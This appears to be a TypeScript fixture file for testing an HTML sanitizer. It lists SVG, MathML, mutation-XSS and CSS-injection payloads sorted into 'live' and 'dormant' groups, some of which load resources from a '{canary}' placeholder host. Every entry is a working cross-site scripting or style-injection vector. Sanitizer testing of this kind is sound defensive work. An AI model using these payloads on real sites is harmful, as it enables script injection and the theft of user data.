// SVG, MathML, styles, and markup that is one thing before it is cleaned and another after it.
import type { Category } from './payload.ts';

export const svg: Category = {
  name: 'svg',
  live: [
    '<svg onload=alert(1)>',
    '<svg/onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><script>&#97;lert(1)</script></svg>',
    '<svg><script href="data:text/javascript,alert(1)"></script></svg>',
    '<svg><script xlink:href="{canary}/svg.js"></script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><set onbegin=alert(1) attributeName=x to=y>',
    '<svg><image href=x onerror=alert(1)></svg>',
    '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
    '<svg><style>@import "{canary}/svg.css";</style></svg>',
    '<svg><image href="{canary}/svg.png"/></svg>',
    '<svg><title><img src=x onerror=alert(1)></title></svg>',
    '<svg><desc><iframe srcdoc="<script>alert(1)</script>"></iframe></desc></svg>',
  ],
  dormant: [
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">a</text></a></svg>',
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>a</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>',
    '<svg><handler type="text/javascript">alert(1)</handler></svg>',
    '<svg xmlns:ev="http://www.w3.org/2001/xml-events"><listener ev:event="load" ev:handler="javascript:alert(1)"/></svg>',
    '<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>',
  ],
};

export const math: Category = {
  name: 'math',
  live: [
    '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    '<math onclick=alert(1) data-press><mi>a</mi></math>',
  ],
  dormant: [
    '<math href="javascript:alert(1)"><mi>a</mi></math>',
    '<math><mi xlink:href="javascript:alert(1)">a</mi></math>',
    '<math><maction actiontype="statusline#{canary}" xlink:href="javascript:alert(1)">a</maction></math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
};

export const mutations: Category = {
  name: 'mutation',
  live: [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></p></xmp>',
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></p>',
    '<title><p title="</title><img src=x onerror=alert(1)>"></p>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!---><img src=x onerror=alert(1)>-->',
    '<!-- --!><img src=x onerror=alert(1)> -->',
    '<![CDATA[><img src=x onerror=alert(1)>]]>',
    '<?php ><img src=x onerror=alert(1)> ?>',
    '</p/><img src=x onerror=alert(1)>',
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    '<table><tr><td><svg><desc><td></desc></svg><img src=x onerror=alert(1)></table>',
    '<a><table><a><img src=x onerror=alert(1)></a></table></a>',
    '<template><b></template><img src=x onerror=alert(1)>',
    '<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>',
  ],
  dormant: [
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
    '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=alert(1)>"></style>',
    '<svg><style><img title="</style><img src=x onerror=alert(1)>"></style></svg>',
    '<select><style></select><img src=x onerror=alert(1)></style>',
    '<b title="&lt;img src=x onerror=alert(1)&gt;">a</b>',
    '<p title="`><img src=x onerror=alert(1)>">a</p>',
    '<img alt="<x" title="/><img src=x onerror=alert(1)>">',
    '<dg-slot data-slot="0"><img src=x onerror=alert(1)></dg-slot>',
    '<dg-island name="Demo" props="{}"><img src=x onerror=alert(1)></dg-island>',
    '<a id="dg-config">{"base":"{canary}/"}</a><img name="body">',
    '<p id="__proto__" class="constructor">a</p>',
    '<details name="</summary><img src=x onerror=alert(1)>"><summary>a</summary></details>',
  ],
};

export const styles: Category = {
  name: 'style',
  live: [
    '<div style="background:url({canary}/1.png)">a</div>',
    '<div style="background-image:image-set(\'{canary}/2.png\' 1x)">a</div>',
    '<li style="list-style-image:url({canary}/3.png)">a</li>',
    '<div style="background:u\\72l({canary}/4.png)">a</div>',
    '<div style="border-image:url({canary}/5.png) 1">a</div>',
  ],
  dormant: [
    '<div style="background:url(javascript:alert(1))">a</div>',
    '<div style="width:expression(alert(1))">a</div>',
    '<div style="-moz-binding:url({canary}/x.xml#x)">a</div>',
    '<div style="behavior:url({canary}/x.htc)">a</div>',
    '<div style="position:fixed;inset:0;z-index:9999">a</div>',
    '<div style="color:red/*;*/;background:url({canary}/6.png)">a</div>',
    '<div style="--x:url({canary}/7.png);background:var(--x)">a</div>',
    '<div style="content:url({canary}/8.png)">a</div>',
    '<div style=\'font-family:"a;background:url({canary}/9.png);b"\'>a</div>',
  ],
};
